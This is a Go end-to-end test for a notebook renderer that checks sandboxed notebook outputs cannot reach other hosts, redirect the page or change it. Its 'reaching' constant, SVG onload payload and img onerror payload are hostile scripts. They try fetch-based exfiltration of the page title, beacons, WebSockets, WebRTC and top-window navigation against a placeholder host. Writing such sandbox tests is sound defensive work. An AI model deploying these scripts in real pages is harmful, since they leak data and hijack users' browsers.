package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// reaching is an output that tries to tell another host that it is read, by every way that browsers have. HTTP and
// STUN stand for the host's addresses. Its last word makes the frame around it 777 pixels high.
const reaching = `<p id="figure">a figure</p><style>@import "HTTP/import";</style><link rel="prefetch" href="HTTP/prefetch"><link rel="dns-prefetch" href="HTTP/">
<meta http-equiv="refresh" content="1;HTTP/refresh"><form id="f" action="HTTP/form" method="post"></form><a id="a" href="HTTP/ping" ping="HTTP/ping">a</a>
<script>
const tried = (f) => { try { Promise.resolve(f()).catch(() => {}); } catch {} };
tried(() => fetch("HTTP/fetch?" + document.title, { mode: "no-cors" }));
tried(() => { new Image().src = "HTTP/image"; });
tried(() => navigator.sendBeacon("HTTP/beacon", "x"));
tried(() => new WebSocket("HTTP/socket".replace("http", "ws")));
tried(() => new EventSource("HTTP/events"));
tried(() => new Worker("HTTP/worker.js"));
tried(() => import("HTTP/module.js"));
tried(() => document.fonts.add(new FontFace("f", "url(HTTP/font)")) && document.fonts.load("1em f"));
tried(() => { const f = document.createElement("iframe"); f.src = "HTTP/frame"; document.body.append(f); });
tried(() => { const s = document.createElement("script"); s.src = "HTTP/script"; document.body.append(s); });
tried(() => { const o = document.createElement("object"); o.data = "HTTP/object"; document.body.append(o); });
tried(() => { const v = document.createElement("video"); v.src = "HTTP/video"; v.load(); });
tried(() => open("HTTP/open"));
tried(() => { top.location = "HTTP/top"; });
tried(() => { parent.location.href = "HTTP/parent"; });
tried(() => { parent.document.title = "changed"; });
tried(() => {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] });
  pc.createDataChannel("x");
  return pc.createOffer().then((o) => pc.setLocalDescription(o));
});
setInterval(() => parent.postMessage({ lecternHeight: 777 }, "*"), 100);
setTimeout(() => tried(() => { LEAVE; }), 1000);
</script>`

// leaving are ways to another address, which are the end of the document that tries them.
var leaving = []string{`location = "HTTP/navigate"`, `location.replace("HTTP/replace")`, `document.getElementById("a").click()`, `document.getElementById("f").submit()`}

// Outputs with scripts stand in a frame of their own, whose scripts reach no host by anything that a page's policy
// knows, can't lead the page elsewhere, and can't change it. WebRTC is what no policy knows: docs/security.md says so.
func TestOutputsReachNobody(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var asked []string
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, r.URL.Path)
	}))
	defer host.Close()
	stun, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer stun.Close()
	packets := 0
	go func() {
		b := make([]byte, 2000)
		for {
			if _, _, err := stun.ReadFrom(b); err != nil {
				return
			}
			mu.Lock()
			packets++
			mu.Unlock()
		}
	}()
	all := []map[string]any{}
	for _, leave := range leaving {
		text := strings.Replace(reaching, "LEAVE", leave, 1)
		all = append(all, map[string]any{"text/html": strings.NewReplacer("HTTP", host.URL, "STUN", stun.LocalAddr().String()).Replace(text)})
	}
	svg := fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="location='%[1]s/onload'"><title>a plot</title><script>location="%[1]s/svg"</script><rect width="9" height="9"/></svg>`, host.URL)
	handler := fmt.Sprintf(`<img src="data:x" alt="" onerror="top.location='%[1]s/handler'">`, host.URL)
	var outputs []any
	for _, data := range append(all, map[string]any{"image/svg+xml": svg}, map[string]any{"text/html": handler}) {
		outputs = append(outputs, map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": data})
	}
	b, err := json.Marshal(map[string]any{"nbformat": 4, "nbformat_minor": 5, "metadata": map[string]any{}, "cells": []any{
		map[string]any{"cell_type": "markdown", "id": "a", "metadata": map[string]any{}, "source": "# A page"},
		map[string]any{"cell_type": "code", "id": "b", "metadata": map[string]any{}, "source": "1", "execution_count": 1, "outputs": outputs}}})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "01-page.ipynb")
	if err := os.WriteFile(file, b, 0o600); err != nil {
		t.Fatal(err)
	}
	exe := kernelCommand(t)
	tab := openBrowser(t)
	tab.window(1280, 900, false)
	for _, flag := range []string{"-untrusted", "-steps=false"} { // the second goes on sending as long as it is open
		t.Run(flag, func(t *testing.T) {
			mu.Lock()
			asked, packets = nil, 0
			mu.Unlock()
			out := filepath.Join(dir, "site"+flag)
			cmd := exec.Command(exe, "render", flag, "-o", out, file)
			cmd.Dir = root(t)
			if text, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("render: %v\n%s", err, text)
			}
			address := (&url.URL{Scheme: "file", Path: filepath.ToSlash(filepath.Join(out, "01-page.html"))}).String()
			tab.do(chromedp.Navigate(address), chromedp.WaitReady("body"))
			if flag == "-untrusted" {
				tab.until("the page's own script runs", `!document.querySelector(".search").hidden`, `document.body.className`)
				if n := ask[int](tab, `document.querySelectorAll("iframe").length`); n != 0 {
					t.Errorf("%d frames", n)
				}
			} else {
				tab.until("the output's script has tried all", `[...document.querySelectorAll("iframe.apart")].filter((f) => f.style.height === "779px").length >= 4`, `document.querySelector("iframe")?.style.height`)
				time.Sleep(3 * time.Second) // they leave after one; where the machine is slow, less is seen
			}
			if title := ask[string](tab, `document.title`); !strings.HasPrefix(title, "A page") {
				t.Errorf("the page is %q now", title)
			}
			mu.Lock()
			defer mu.Unlock()
			if len(asked) > 0 {
				t.Errorf("the host was asked for %q", asked)
			}
			if flag == "-untrusted" && packets > 0 {
				t.Errorf("the host got %d packets", packets)
			}
			t.Logf("%d packets by WebRTC", packets)
		})
	}
}
